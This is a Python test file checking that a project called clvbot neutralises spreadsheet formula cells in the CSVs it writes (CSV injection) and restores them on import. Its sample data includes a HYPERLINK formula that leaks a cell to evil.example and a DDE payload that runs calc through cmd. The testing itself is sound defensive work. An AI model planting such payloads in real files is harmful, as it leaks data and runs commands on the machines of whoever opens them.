"""Cells a spreadsheet would run as formulas: neutralised in every CSV clvbot writes, and
restored when such a file is imported again (OWASP CSV injection)."""

from __future__ import annotations

import csv
import re
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Engine, select
from sqlmodel import Session

import clv
from clv.csvsafe import neutralise, restore
from clv.datasets import write_cdnow_orders_csv
from clv.datasets.shop import Shop, ShopCustomer, ShopOrder, write_shop_csvs
from clv.ingest import import_customers, import_orders
from clv.settings import Settings
from clv.store.tables import customers_table, orders_table
from tests.helpers import ORDER_HEADER, write_csv

pytestmark = pytest.mark.faults  # issue 11's fault suite

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
CALC = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def _stored(engine: Engine) -> dict[str, tuple[str, int, str | None]]:
    query = select(
        orders_table.c.external_id,
        customers_table.c.external_id,
        orders_table.c.amount_minor,
        customers_table.c.name,
    ).join(customers_table)
    with Session(engine) as session:
        return {row[0]: (row[1], row[2], row[3]) for row in session.execute(query)}


def _import_hostile_rows(engine: Engine, settings: Settings, tmp_path: Path) -> Path:
    header = [*ORDER_HEADER, "name", "note"]
    rows = [
        [HYPERLINK, "c1", "2024-13-01", "-12.50", SUM, "-x"],  # bad date
        # a file's `''=x` is the value `'=x` (one quote is the neutralising one)
        ["o2", CALC, "not a date", "1.00", "''=quoted", "\tx"],  # bad date
        ["o3", "c3", "2024-01-05", "=1+1", "\rcr", "@x"],  # bad amount
        ["o4", "c4", "2024-01-06", "2.00", "fine", "fine"],
    ]
    report = import_orders(engine, write_csv(tmp_path / "o.csv", header, rows), settings)
    assert (report.imported, report.rejected) == (1, 3)
    assert report.rejects_path is not None
    return report.rejects_path


def test_rejects_file_neutralises_every_cell_that_starts_a_formula(
    engine: Engine, settings: Settings, tmp_path: Path
) -> None:
    cells = _cells(_import_hostile_rows(engine, settings, tmp_path))
    assert not [cell for row in cells for cell in row if cell.startswith(FORMULA_STARTS)]
    assert cells[1][:6] == [f"'{HYPERLINK}", "c1", "2024-13-01", "'-12.50", f"'{SUM}", "'-x"]
    assert cells[2][:6] == ["o2", f"'{CALC}", "not a date", "1.00", "''=quoted", "'\tx"]
    assert cells[3][:6] == ["o3", "c3", "2024-01-05", "'=1+1", "'\rcr", "'@x"]


def test_fixed_rejects_file_imports_the_values_it_was_written_from(
    engine: Engine, settings: Settings, tmp_path: Path
) -> None:
    rejects = _import_hostile_rows(engine, settings, tmp_path)
    with rejects.open(encoding="utf-8", newline="") as file:  # fix each bad field
        text = file.read()
    for bad, good in (("2024-13-01", "2024-01-13"), ("not a date", "2024-01-14"), ("'=1+1", "3")):
        text = text.replace(bad, good, 1)
    with rejects.open("w", encoding="utf-8", newline="") as file:
        file.write(text)
    report = import_orders(engine, rejects, settings)
    assert (report.imported, report.rejected) == (3, 0)
    stored = _stored(engine)
    assert stored[HYPERLINK] == ("c1", -1250, SUM)  # the refund -12.50, the name as given
    assert stored["o2"] == (CALC, 100, "'=quoted")
    assert stored["o3"] == ("c3", 300, "cr")  # names are stripped, as always


def test_demo_shop_csvs_neutralise_formula_cells_and_import_back(
    engine: Engine, settings: Settings, tmp_path: Path
) -> None:
    at = datetime(2024, 3, 1, 10, 0)
    customer = ShopCustomer("1", CALC, "ann@example.com", at, "=evil", 0.0, False, None)
    orders = [ShopOrder("o1", "1", at, 5.0), ShopOrder("o1-r", "1", at, -5.0)]
    customers_csv, orders_csv = write_shop_csvs(Shop([customer], orders), tmp_path)
    assert _cells(customers_csv)[1][2] == f"'{CALC}"
    assert _cells(customers_csv)[1][5] == "'=evil"
    assert _cells(orders_csv)[2][3] == "'-5.00"
    assert import_customers(engine, customers_csv, settings).rejected == 0
    assert import_orders(engine, orders_csv, settings).rejected == 0
    assert _stored(engine) == {"o1": ("1", 500, CALC), "o1-r": ("1", -500, CALC)}
    with Session(engine) as session:
        channel = session.execute(select(customers_table.c.channel)).scalar_one()
    assert channel == "=evil"


def test_cdnow_orders_csv_has_no_formula_cells(tmp_path: Path) -> None:
    cells = _cells(write_cdnow_orders_csv(tmp_path / "cdnow.csv"))
    assert len(cells) == 6_920
    assert not [cell for row in cells for cell in row if cell.startswith(FORMULA_STARTS)]


def test_every_csv_clvbot_writes_goes_through_the_neutralising_writer() -> None:
    root = Path(clv.__file__).parent.parent
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    direct = [
        str(path.relative_to(root))
        for package in ("clv", "bot", "reports")
        for path in (root / package).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8")) and path.name != "csvsafe.py"
    ]
    assert direct == []


@given(st.text())
def test_a_neutralised_cell_reads_back_as_the_value_written(value: str) -> None:
    cell = neutralise(value)
    assert isinstance(cell, str)
    assert not cell.startswith(FORMULA_STARTS)
    assert restore(cell) == value
